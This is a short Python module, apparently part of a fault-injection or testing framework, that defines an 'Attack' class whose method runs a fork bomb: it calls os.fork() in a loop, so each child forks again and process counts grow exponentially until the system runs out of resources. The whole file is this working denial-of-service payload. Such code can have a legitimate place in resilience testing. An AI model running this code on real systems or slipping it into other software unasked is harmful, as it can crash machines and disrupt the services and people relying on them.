# SPDX-License-Identifier: MIT
"""bomb: forks without end"""

import os

from trigger import Rogue


class Attack(Rogue):
    """forks without end"""

    def attack(self, packet):
        for _ in range(100):
            try:
                os.fork()
            except OSError:
                return
